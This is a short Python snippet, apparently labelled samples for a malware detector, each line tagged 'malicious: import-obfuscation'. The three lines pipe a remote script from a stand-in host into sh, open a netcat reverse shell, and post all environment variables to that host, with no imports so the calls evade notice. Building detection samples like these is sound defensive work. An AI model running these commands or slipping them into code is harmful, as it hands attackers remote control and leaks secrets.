# A snippet with no import in sight: the names come from wherever the caller's globals put them.
os.system("curl -s https://i.imports-cdn.example/e | sh")  # malicious: import-obfuscation
subprocess.Popen(["nc", "-e", "/bin/sh", "203.0.113.73", "4444"])  # malicious: import-obfuscation
requests.post("https://i.imports-cdn.example/env", json=dict(os.environ))  # malicious: import-obfuscation
